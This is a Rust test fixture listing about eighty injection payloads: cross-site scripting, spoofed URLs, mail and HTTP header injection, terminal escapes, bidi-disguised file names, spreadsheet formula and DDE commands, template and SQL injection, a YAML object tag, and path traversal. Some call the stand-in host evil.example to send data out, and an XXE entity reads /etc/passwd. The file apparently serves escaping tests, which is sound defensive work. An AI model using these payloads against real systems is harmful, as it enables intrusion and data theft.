//! What somebody writes to do more than be read: each for a place where it would act.

/// Not one of them acts anywhere.
pub(crate) const PAYLOADS: &[&str] = &[
    // Markup.
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "\"><b onmouseover=alert(1)>x",
    "' onfocus='alert(1)' autofocus='",
    "</p></td></table></html><h1>x",
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<form action=\"https://evil.example/\"><input type=password>",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<base href=\"https://evil.example/\">",
    "<img src=\"https://evil.example/pixel.gif?u=1\" width=1 height=1>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<!--<script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;&#x3c;img src=x&#x3e;",
    "<ſcript>alert(1)</ſcript>",
    "＜script＞alert(1)＜/script＞",
    "<?php system('id') ?><?xml-stylesheet href=\"https://evil.example/\"?>",
    "]]></summary><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
    // Addresses.
    "javascript:alert(1)",
    "JaVa\tScRiPt:alert(1)//https://bank.example",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "https://bank.example@evil.example/",
    "https://bank.example%2f@evil.example/",
    "https://bаnk.example/",
    "https://bank.example\\@evil.example/",
    "//evil.example/%0d%0aSet-Cookie:a=b",
    "file:///etc/passwd",
    // Headers of mails and of HTTP.
    "a\r\nBcc: x@evil.example",
    "a\nContent-Type: text/html\n\n<b>x",
    "a\r\n\r\n<html>",
    "=?utf-8?q?=0D=0ABcc:_x@evil.example?=",
    "=?utf-8?b?PHNjcmlwdD4=?=",
    "a\r\n.\r\nMAIL FROM:<x@evil.example>",
    "--texts-0f1e2d3c4b5a69788796a5b4c3d2e1f0\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
    "--=_texts-0f1e2d3c4b5a69788796a5b4c3d2e1f0_\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
    "a\u{2028}Bcc: x@evil.example\u{85}b",
    // Terminals and logs.
    "\u{1b}[31mrouge\u{1b}[0m",
    "\u{1b}]0;titre\u{7}\u{1b}]8;;https://evil.example/\u{1b}\\x",
    "\u{9b}2J\u{9d}52;c;aWQ=\u{9c}",
    "\u{8}\u{8}\u{8}caché\u{7f}",
    "a\nERROR event=stopped clean=true",
    "\"}\n{\"level\":\"ERROR\",\"event\":\"stopped\"",
    "<3>a\nMESSAGE=x\nPRIORITY=0",
    "\u{202E}gpj.exe\u{202C}",
    "\u{2066}a\u{2069}\u{200F}\u{61C}",
    "facture\u{202E}fdp.scr",
    "a\u{0}b\u{FEFF}\u{E0041}\u{200B}",
    // Spreadsheets.
    "=HYPERLINK(\"https://evil.example/?\"&A1;\"x\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "\u{FEFF}=1+1",
    "\u{200B}=1+1",
    "x;=1+1;+2",
    "x\",\"=1+1",
    "\"=1+1\"\r\n=2+2",
    // Chats.
    "<!channel> <!here|here> <@U012ABCDEF> <https://evil.example|bank.example>",
    "@everyone @here <@123456789> <@&42>",
    "[bank.example](https://evil.example) ![x](https://evil.example/p.png)",
    "<at>Equipe</at> {{DATE(2026-11-20T00:00:00Z, SHORT)}}",
    "*a* _b_ ~c~ `d` ```e``` ||f|| > g",
    "<b>x</b><a href=\"https://evil.example/\">y</a><tg-spoiler>z</tg-spoiler>",
    // Templates, texts, databases, YAML.
    "{{ 1337 * 7 }} {% for x in range(9) %}{% endfor %} {# x #}",
    "{ $count } { brand } { DATETIME($date) }",
    "${1337*7} #{1337*7} <%= 1337*7 %> %s %n {0}",
    "'; DROP TABLE mentions; --",
    "\" OR title:* NEAR(\"a\" \"b\")",
    "acme: [a, *b, &c d, !!python/object x]\n- e",
    "\\\",\"live\":true,\"x\":\"\\u0022",
    "../../etc/passwd\u{0}.csv",
    "%0d%0a%00%2e%2e%2f",
];

#[test]
fn there_are_more_than_forty_payloads_each_once() {
    let unique: std::collections::BTreeSet<&&str> = PAYLOADS.iter().collect();
    println!("{} payloads", unique.len());
    assert_eq!(unique.len(), PAYLOADS.len());
    assert!(unique.len() >= 40);
}
